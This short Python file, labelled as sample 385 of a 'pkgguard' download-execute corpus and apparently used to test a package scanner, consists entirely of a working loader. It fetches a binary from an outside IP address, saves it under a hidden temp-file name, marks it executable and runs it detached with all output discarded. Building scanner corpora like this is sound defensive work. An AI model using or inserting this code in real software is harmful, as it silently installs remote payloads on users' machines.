# pkgguard corpus 385 (download-execute), modelled on [empirical]; inert, never run.
import os
import subprocess
import tempfile

import requests

resp = requests.get("http://100.64.0.85/a/linux-amd64", timeout=15)
fd, path = tempfile.mkstemp(prefix=".cache-")
with os.fdopen(fd, "wb") as out:
    out.write(resp.content)
os.chmod(path, 0o700)
subprocess.Popen([path], start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
